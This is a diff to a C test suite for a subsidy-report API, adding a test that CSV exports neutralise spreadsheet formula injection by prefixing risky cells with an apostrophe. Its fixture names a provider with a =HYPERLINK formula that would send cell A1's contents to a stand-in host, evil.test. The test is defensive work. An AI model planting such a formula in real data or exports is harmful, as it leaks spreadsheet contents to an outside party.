@@ -14,6 +14,8 @@
 #include <time.h>
 #include <unistd.h>
 
+#define PROV2_NAME "=HYPERLINK(\"http://evil.test/?\"&A1,\"East Compute\")"
+
 static struct world w;
 static struct th_auth prov2, inst3;
 static char *prov2_org, *inst3_org, *offer2;
@@ -25,13 +27,22 @@ static char *prog_a, *prog_b, *hami_prog;
  * process; the database is what they share). */
 static void up(void) {
     world_setup(&w, "reports", WORLD_OFFER);
-    /* an eastern provider, and an institute whose name needs quoting in CSV */
-    prov2_org = th_org(&w.srv, &w.op, "provider", "East Compute", w.city);
-    json_t *b = json_pack("{s:s, s:s, s:s}", "type", "institute", "name", "Lab, \"Quoted\" & Co",
-                          "city_id", w.city);
+    /* an eastern provider whose name a spreadsheet would run as a formula, and an institute
+     * whose name needs quoting in CSV */
+    json_t *b =
+        json_pack("{s:s, s:s, s:s}", "type", "provider", "name", PROV2_NAME, "city_id", w.city);
     char *body = json_dumps(b, JSON_COMPACT);
     json_decref(b);
     struct th_resp o = th_req(&w.srv, "POST", "/v1/organizations", &w.op, body, NULL);
+    th_assert_status(&o, 201);
+    prov2_org = strdup(th_str(&o, "id"));
+    th_resp_free(&o);
+    free(body);
+    b = json_pack("{s:s, s:s, s:s}", "type", "institute", "name", "Lab, \"Quoted\" & Co", "city_id",
+                  w.city);
+    body = json_dumps(b, JSON_COMPACT);
+    json_decref(b);
+    o = th_req(&w.srv, "POST", "/v1/organizations", &w.op, body, NULL);
     th_assert_status(&o, 201);
     inst3_org = strdup(th_str(&o, "id"));
     th_resp_free(&o);
@@ -512,6 +523,35 @@ START_TEST(csv_parses_back_to_the_same_figures) {
 }
 END_TEST
 
+START_TEST(csv_cells_that_a_spreadsheet_would_run_as_formulas_begin_with_an_apostrophe) {
+    const char *hdr[] = {"Accept: text/csv", NULL};
+    struct th_resp c = th_req(&w.srv, "GET", "/v1/reports/subsidies?group_by=provider,program",
+                              &w.admin, NULL, hdr);
+    th_assert_status(&c, 200);
+    json_t *rows = csv_parse(c.body);
+    bool seen = false;
+    for (size_t i = 0; i < json_array_size(rows); i++) {
+        json_t *row = json_array_get(rows, i);
+        for (size_t k = 0; k < json_array_size(row); k++) {
+            const char *cell = json_string_value(json_array_get(row, k));
+            ck_assert_msg(cell[0] == '\0' || strchr("=+@\t\r", cell[0]) == NULL,
+                          "a CSV cell begins with a formula character: %s", cell);
+            if (cell[0] == '-') /* only a number may begin with a minus */
+                ck_assert_msg(strspn(cell + 1, "0123456789") == strlen(cell + 1), "cell %s", cell);
+            if (strcmp(cell, "'" PROV2_NAME) == 0)
+                seen = true;
+        }
+    }
+    ck_assert_msg(seen, "the provider's name is in the CSV with an apostrophe before it");
+    json_decref(rows);
+    th_resp_free(&c);
+    /* the JSON report carries the name as it is */
+    struct th_resp j = report(&w.admin, "group_by=provider");
+    ck_assert_ptr_nonnull(strstr(j.body, "\"=HYPERLINK("));
+    th_resp_free(&j);
+}
+END_TEST
+
 /* ==== refusals ============================================================================ */
 
 START_TEST(bad_parameters_and_accept_headers_are_refused_naming_them) {
@@ -647,6 +687,8 @@ int main(void) {
     th_case(s, a_city_sees_nothing_of_another, 600, NULL, ledger_ok);
     th_case(s, a_time_range_selects_movements_by_when_they_happened, 600, NULL, ledger_ok);
     th_case(s, csv_parses_back_to_the_same_figures, 600, NULL, ledger_ok);
+    th_case(s, csv_cells_that_a_spreadsheet_would_run_as_formulas_begin_with_an_apostrophe, 600,
+            NULL, ledger_ok);
     th_case(s, bad_parameters_and_accept_headers_are_refused_naming_them, 600, NULL, ledger_ok);
     th_case(s, each_anomaly_fires_on_crafted_data_and_says_why, 600, NULL, ledger_ok);
     return th_run(s);
